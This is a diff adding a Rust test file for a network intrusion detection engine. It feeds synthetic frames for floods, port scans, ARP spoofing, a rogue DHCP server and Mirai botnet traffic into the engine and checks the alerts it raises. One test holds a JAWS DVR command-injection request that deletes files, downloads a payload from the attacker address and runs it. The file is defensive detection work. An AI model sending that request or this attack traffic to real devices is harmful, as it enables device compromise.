@@ -1,0 +1,487 @@
+//! The detectors inside the whole engine, fed frames built in code
+//! (etherparse's `PacketBuilder`, DHCP per RFC 2131), so each test states
+//! exactly what went over the wire.
+
+use etherparse::{ArpHardwareId, ArpOperation, ArpPacket, EtherType, PacketBuilder};
+use ward_core::{Alert, AlertCategory, Engine, EngineConfig, Timestamp, VecSink};
+
+type Mac = [u8; 6];
+type V4 = [u8; 4];
+
+const ATK_MAC: Mac = [0x02, 0x42, 0xac, 0x11, 0x00, 0x66];
+const CAM_MAC: Mac = [0xc0, 0x56, 0xe3, 0x00, 0x00, 0x20];
+const GW_MAC: Mac = [0x04, 0x18, 0xd6, 0x00, 0x00, 0x01];
+const PHONE_MAC: Mac = [0xf0, 0x18, 0x98, 0x00, 0x00, 0x30];
+const ATK: V4 = [192, 168, 1, 66];
+const CAM: V4 = [192, 168, 1, 20];
+const GW: V4 = [192, 168, 1, 1];
+const PHONE: V4 = [192, 168, 1, 30];
+const T0: i64 = 1_700_000_000_000_000; // µs
+
+fn tcp(src: (Mac, V4, u16), dst: (Mac, V4, u16), seq: u32, flags: &str, payload: &[u8]) -> Vec<u8> {
+    let mut b = PacketBuilder::ethernet2(src.0, dst.0)
+        .ipv4(src.1, dst.1, 64)
+        .tcp(src.2, dst.2, seq, 64240);
+    for f in flags.chars() {
+        b = match f {
+            'S' => b.syn(),
+            'A' => b.ack(1),
+            'F' => b.fin(),
+            'R' => b.rst(),
+            'P' => b.psh(),
+            _ => b,
+        };
+    }
+    let mut out = Vec::new();
+    b.write(&mut out, payload).unwrap();
+    out
+}
+
+fn udp(src: (Mac, V4, u16), dst: (Mac, V4, u16), payload: &[u8]) -> Vec<u8> {
+    let b = PacketBuilder::ethernet2(src.0, dst.0)
+        .ipv4(src.1, dst.1, 64)
+        .udp(src.2, dst.2);
+    let mut out = Vec::new();
+    b.write(&mut out, payload).unwrap();
+    out
+}
+
+fn arp(op: ArpOperation, smac: Mac, sip: V4, dmac: Mac, tip: V4) -> Vec<u8> {
+    let eth_dst = if op == ArpOperation::REQUEST {
+        [0xff; 6]
+    } else {
+        dmac
+    };
+    let pkt = ArpPacket::new(
+        ArpHardwareId::ETHERNET,
+        EtherType::IPV4,
+        op,
+        &smac,
+        &sip,
+        &dmac,
+        &tip,
+    )
+    .unwrap();
+    let mut out = Vec::new();
+    out.extend_from_slice(&eth_dst);
+    out.extend_from_slice(&smac);
+    out.extend_from_slice(&[0x08, 0x06]);
+    pkt.write(&mut out).unwrap();
+    out
+}
+
+/// A DHCP message (RFC 2131 BOOTP layout + options 53, 54, 3, 6).
+fn dhcp(
+    msg_type: u8,
+    xid: u32,
+    chaddr: Mac,
+    yiaddr: V4,
+    server: Option<V4>,
+    router: Option<V4>,
+) -> Vec<u8> {
+    let mut p = vec![0u8; 236];
+    p[0] = if matches!(msg_type, 2 | 5 | 6) { 2 } else { 1 }; // op
+    p[1] = 1; // htype Ethernet
+    p[2] = 6; // hlen
+    p[4..8].copy_from_slice(&xid.to_be_bytes());
+    p[16..20].copy_from_slice(&yiaddr);
+    p[28..34].copy_from_slice(&chaddr);
+    p.extend_from_slice(&[99, 130, 83, 99]); // magic cookie
+    p.extend_from_slice(&[53, 1, msg_type]);
+    if let Some(s) = server {
+        p.extend_from_slice(&[54, 4]);
+        p.extend_from_slice(&s);
+    }
+    if let Some(r) = router {
+        p.extend_from_slice(&[3, 4]);
+        p.extend_from_slice(&r);
+        p.extend_from_slice(&[6, 4]);
+        p.extend_from_slice(&r);
+    }
+    p.push(255);
+    p
+}
+
+struct Run {
+    engine: Engine,
+    sink: VecSink,
+}
+
+impl Run {
+    fn new() -> Self {
+        Self::with(None)
+    }
+    fn with(cfg: Option<serde_json::Value>) -> Self {
+        let dets = ward_detect::detectors(cfg.as_ref()).unwrap();
+        let cfg = EngineConfig {
+            emit_flows: Some(false),
+            ..Default::default()
+        };
+        Run {
+            engine: Engine::new(cfg, 9, dets),
+            sink: VecSink::default(),
+        }
+    }
+    fn at(&mut self, us: i64, frame: &[u8]) {
+        self.engine.process(
+            Timestamp(T0 + us),
+            1,
+            frame,
+            frame.len() as u32,
+            &mut self.sink,
+        );
+    }
+    fn alerts(mut self) -> Vec<(Timestamp, Alert)> {
+        self.engine.finish(&mut self.sink);
+        let out: Vec<(Timestamp, Alert)> = self
+            .sink
+            .0
+            .into_iter()
+            .filter_map(|e| e.alert.map(|a| (e.timestamp, a)))
+            .collect();
+        for (t, a) in &out {
+            eprintln!("{t} {} {} {}", a.category.as_str(), a.signature, a.summary);
+        }
+        out
+    }
+}
+
+fn ip(v: V4) -> std::net::IpAddr {
+    std::net::IpAddr::from(v)
+}
+
+/// Both sides introduce themselves by ARP, as on a real LAN.
+fn introduce(r: &mut Run, t: i64, who: &[(Mac, V4)]) {
+    for (i, (m, a)) in who.iter().enumerate() {
+        r.at(
+            t + i as i64,
+            &arp(ArpOperation::REQUEST, *m, *a, [0; 6], GW),
+        );
+    }
+}
+
+#[test]
+fn syn_flood_is_one_alert_raised_within_a_second() {
+    let mut r = Run::new();
+    introduce(&mut r, 0, &[(ATK_MAC, ATK), (CAM_MAC, CAM)]);
+    // 3 seconds at 1000 SYN/s, source port incrementing as hping3 does.
+    for i in 0..3000i64 {
+        let f = tcp(
+            (ATK_MAC, ATK, 1024 + (i % 60000) as u16),
+            (CAM_MAC, CAM, 80),
+            i as u32,
+            "S",
+            b"",
+        );
+        r.at(1_000_000 + i * 1000, &f);
+    }
+    let a = r.alerts();
+    let floods: Vec<_> = a
+        .iter()
+        .filter(|(_, a)| a.category == AlertCategory::Dos)
+        .collect();
+    assert_eq!(floods.len(), 1, "one incident, one alert");
+    let (t, f) = floods[0];
+    assert_eq!(f.signature, "tcp-syn-flood");
+    assert_eq!(f.attacker, Some(ip(ATK)));
+    assert_eq!(f.victims, vec![ip(CAM)]);
+    assert!(
+        t.since(Timestamp(T0 + 1_000_000)) < 2_000_000,
+        "detected within 2 s"
+    );
+    assert!(
+        a.iter().all(|(_, a)| a.category != AlertCategory::Recon),
+        "a flood is not a scan"
+    );
+}
+
+#[test]
+fn spoofed_flood_names_the_sender_by_its_mac() {
+    let mut r = Run::new();
+    introduce(&mut r, 0, &[(ATK_MAC, ATK), (CAM_MAC, CAM)]);
+    let mut x: u32 = 12345;
+    for i in 0..2000i64 {
+        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
+        let src = [
+            (x >> 24) as u8 | 1,
+            (x >> 16) as u8,
+            (x >> 8) as u8,
+            x as u8,
+        ];
+        let f = tcp(
+            (ATK_MAC, src, 2000),
+            (CAM_MAC, CAM, 1883),
+            i as u32,
+            "S",
+            b"",
+        );
+        r.at(1_000_000 + i * 500, &f);
+    }
+    let a = r.alerts();
+    let f = a
+        .iter()
+        .find(|(_, a)| a.signature == "tcp-syn-flood-spoofed")
+        .expect("spoofed flood");
+    assert_eq!(f.1.attacker, Some(ip(ATK)), "{:?}", f.1);
+    assert_eq!(
+        a.iter()
+            .filter(|(_, a)| a.category == AlertCategory::Dos)
+            .count(),
+        1
+    );
+}
+
+#[test]
+fn vertical_scan_is_recon_and_browsing_is_quiet() {
+    let mut r = Run::new();
+    introduce(
+        &mut r,
+        0,
+        &[(ATK_MAC, ATK), (CAM_MAC, CAM), (PHONE_MAC, PHONE)],
+    );
+    // The attacker SYNs 100 ports of the camera; closed ports answer RST.
+    for p in 1..=100u16 {
+        let t = 1_000_000 + i64::from(p) * 2000;
+        r.at(
+            t,
+            &tcp((ATK_MAC, ATK, 40000), (CAM_MAC, CAM, p), 7, "S", b""),
+        );
+        r.at(
+            t + 100,
+            &tcp((CAM_MAC, CAM, p), (ATK_MAC, ATK, 40000), 0, "RA", b""),
+        );
+    }
+    // The phone opens 60 HTTPS connections to 60 different remote hosts, all answered.
+    for h in 0..60u8 {
+        let t = 2_000_000 + i64::from(h) * 10_000;
+        let remote = [151, 101, 1, h];
+        r.at(
+            t,
+            &tcp(
+                (PHONE_MAC, PHONE, 50000 + u16::from(h)),
+                (GW_MAC, remote, 443),
+                1,
+                "S",
+                b"",
+            ),
+        );
+        r.at(
+            t + 20,
+            &tcp(
+                (GW_MAC, remote, 443),
+                (PHONE_MAC, PHONE, 50000 + u16::from(h)),
+                1,
+                "SA",
+                b"",
+            ),
+        );
+        r.at(
+            t + 40,
+            &tcp(
+                (PHONE_MAC, PHONE, 50000 + u16::from(h)),
+                (GW_MAC, remote, 443),
+                2,
+                "A",
+                b"",
+            ),
+        );
+    }
+    let a = r.alerts();
+    assert_eq!(a.len(), 1, "{a:?}");
+    assert_eq!(a[0].1.signature, "tcp-port-scan");
+    assert_eq!(a[0].1.attacker, Some(ip(ATK)));
+    assert_eq!(a[0].1.victims, vec![ip(CAM)]);
+}
+
+#[test]
+fn mirai_scanner_on_a_lan_device_is_recon_and_botnet() {
+    let mut r = Run::new();
+    introduce(&mut r, 0, &[(CAM_MAC, CAM)]);
+    for h in 2..10u8 {
+        let dst = [192, 168, 1, h];
+        let seq = u32::from_be_bytes(dst);
+        r.at(
+            1_000_000 + i64::from(h) * 1000,
+            &tcp((CAM_MAC, CAM, 41000), ([0xff; 6], dst, 23), seq, "S", b""),
+        );
+    }
+    let a = r.alerts();
+    assert!(a
+        .iter()
+        .any(|(_, a)| a.signature == "mirai-telnet-scan" && a.attacker == Some(ip(CAM))));
+    assert!(a
+        .iter()
+        .any(|(_, a)| a.category == AlertCategory::Botnet
+            && a.signature == "infected-device-scanning"));
+}
+
+#[test]
+fn arp_poisoning_of_the_gateway_is_one_alert_naming_the_attacker() {
+    let mut r = Run::new();
+    // Normal bindings.
+    r.at(0, &arp(ArpOperation::REPLY, GW_MAC, GW, PHONE_MAC, PHONE));
+    r.at(10, &arp(ArpOperation::REPLY, PHONE_MAC, PHONE, GW_MAC, GW));
+    r.at(20, &arp(ArpOperation::REQUEST, ATK_MAC, ATK, [0; 6], GW));
+    // arpspoof -r: every 2 s, both directions, for 10 s; then the clean-up.
+    for k in 0..5i64 {
+        let t = 1_000_000 + k * 2_000_000;
+        r.at(t, &arp(ArpOperation::REPLY, ATK_MAC, GW, PHONE_MAC, PHONE));
+        r.at(
+            t + 10,
+            &arp(ArpOperation::REPLY, ATK_MAC, PHONE, GW_MAC, GW),
+        );
+    }
+    r.at(
+        12_000_000,
+        &arp(ArpOperation::REPLY, GW_MAC, GW, PHONE_MAC, PHONE),
+    );
+    r.at(
+        12_000_010,
+        &arp(ArpOperation::REPLY, PHONE_MAC, PHONE, GW_MAC, GW),
+    );
+    let a = r.alerts();
+    assert_eq!(a.len(), 1, "{a:?}");
+    let s = &a[0].1;
+    assert_eq!(s.signature, "arp-spoofing");
+    assert_eq!(s.attacker, Some(ip(ATK)));
+    assert!(s.victims.contains(&ip(GW)) && s.victims.contains(&ip(PHONE)));
+}
+
+#[test]
+fn a_dhcp_server_serving_clients_is_quiet_and_a_second_one_is_rogue() {
+    let mut r = Run::new();
+    let bcast = ([0xff; 6], [255, 255, 255, 255]);
+    let mut t = 0;
+    // The router serves five clients.
+    for c in 1..=5u8 {
+        let mac = [0x3c, 0x22, 0xfb, 0, 0, c];
+        let xid = u32::from(c);
+        r.at(
+            t,
+            &udp(
+                (mac, [0, 0, 0, 0], 68),
+                (bcast.0, bcast.1, 67),
+                &dhcp(1, xid, mac, [0; 4], None, None),
+            ),
+        );
+        let yi = [192, 168, 1, 100 + c];
+        r.at(
+            t + 100,
+            &udp(
+                (GW_MAC, GW, 67),
+                (bcast.0, bcast.1, 68),
+                &dhcp(2, xid, mac, yi, Some(GW), Some(GW)),
+            ),
+        );
+        r.at(
+            t + 200,
+            &udp(
+                (mac, [0, 0, 0, 0], 68),
+                (bcast.0, bcast.1, 67),
+                &dhcp(3, xid, mac, [0; 4], Some(GW), None),
+            ),
+        );
+        r.at(
+            t + 300,
+            &udp(
+                (GW_MAC, GW, 67),
+                (bcast.0, bcast.1, 68),
+                &dhcp(5, xid, mac, yi, Some(GW), Some(GW)),
+            ),
+        );
+        t += 5_000_000;
+    }
+    // The attacker's dnsmasq answers the phone's DISCOVER too.
+    r.at(t, &arp(ArpOperation::REQUEST, ATK_MAC, ATK, [0; 6], GW));
+    r.at(
+        t + 10,
+        &udp(
+            (PHONE_MAC, [0, 0, 0, 0], 68),
+            (bcast.0, bcast.1, 67),
+            &dhcp(1, 99, PHONE_MAC, [0; 4], None, None),
+        ),
+    );
+    r.at(
+        t + 100,
+        &udp(
+            (GW_MAC, GW, 67),
+            (bcast.0, bcast.1, 68),
+            &dhcp(2, 99, PHONE_MAC, PHONE, Some(GW), Some(GW)),
+        ),
+    );
+    r.at(
+        t + 120,
+        &udp(
+            (ATK_MAC, ATK, 67),
+            (bcast.0, bcast.1, 68),
+            &dhcp(2, 99, PHONE_MAC, [192, 168, 1, 200], Some(ATK), Some(ATK)),
+        ),
+    );
+    let a = r.alerts();
+    assert_eq!(a.len(), 1, "{a:?}");
+    assert_eq!(a[0].1.signature, "rogue-dhcp-server");
+    assert_eq!(a[0].1.attacker, Some(ip(ATK)));
+}
+
+#[test]
+fn jaws_exploit_request_is_an_exploit_alert() {
+    let mut r = Run::new();
+    let c = (ATK_MAC, ATK, 51000);
+    let s = (CAM_MAC, CAM, 80);
+    r.at(0, &tcp(c, s, 100, "S", b""));
+    r.at(10, &tcp(s, c, 500, "SA", b""));
+    r.at(20, &tcp(c, s, 101, "A", b""));
+    let req = b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.168.1.66/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 192.168.1.20\r\nUser-Agent: Hello, World\r\n\r\n";
+    r.at(30, &tcp(c, s, 101, "PA", req));
+    let a = r.alerts();
+    assert_eq!(a.len(), 1, "{a:?}");
+    assert_eq!(a[0].1.signature, "jaws-dvr-shell-injection");
+    assert_eq!(a[0].1.category, AlertCategory::Exploit);
+    assert_eq!(a[0].1.victims, vec![ip(CAM)]);
+}
+
+#[test]
+fn mirai_c2_handshake_and_keepalives_are_a_botnet_session() {
+    let mut r = Run::new();
+    let bot = (CAM_MAC, CAM, 43000);
+    let c2 = (GW_MAC, [203, 0, 113, 9], 23);
+    r.at(0, &tcp(bot, c2, 1000, "S", b""));
+    r.at(100, &tcp(c2, bot, 5000, "SA", b""));
+    r.at(200, &tcp(bot, c2, 1001, "A", b""));
+    r.at(300, &tcp(bot, c2, 1001, "PA", &[0, 0, 0, 1]));
+    r.at(400, &tcp(bot, c2, 1005, "PA", &[3, b'd', b'v', b'r']));
+    let mut seq = 1009;
+    for k in 1..=4i64 {
+        r.at(k * 5_000_000, &tcp(bot, c2, seq, "PA", &[0, 0]));
+        r.at(k * 5_000_000 + 50, &tcp(c2, bot, 5001, "PA", &[0, 0]));
+        seq += 2;
+    }
+    let a = r.alerts();
+    assert_eq!(a.len(), 1, "{a:?}");
+    assert_eq!(a[0].1.signature, "mirai-c2-session");
+    assert_eq!(a[0].1.attacker, Some(ip(CAM)));
+}
+
+#[test]
+fn config_is_strict_and_thresholds_apply() {
+    let bad = serde_json::json!({ "dos": { "syn_ppps": 5 } });
+    assert!(ward_detect::detectors(Some(&bad)).is_err());
+    let missing = serde_json::json!({ "exploit": { "rules_file": "/nonexistent/rules.toml" } });
+    assert!(ward_detect::detectors(Some(&missing)).is_err());
+    // A SYN flood under a raised threshold stays quiet.
+    let cfg = serde_json::json!({ "dos": { "syn_pps": 5000 } });
+    let mut r = Run::with(Some(cfg));
+    for i in 0..1000i64 {
+        r.at(
+            i * 1000,
+            &tcp(
+                (ATK_MAC, ATK, 1024 + i as u16),
+                (CAM_MAC, CAM, 80),
+                1,
+                "S",
+                b"",
+            ),
+        );
+    }
+    assert!(r.alerts().is_empty());
+}
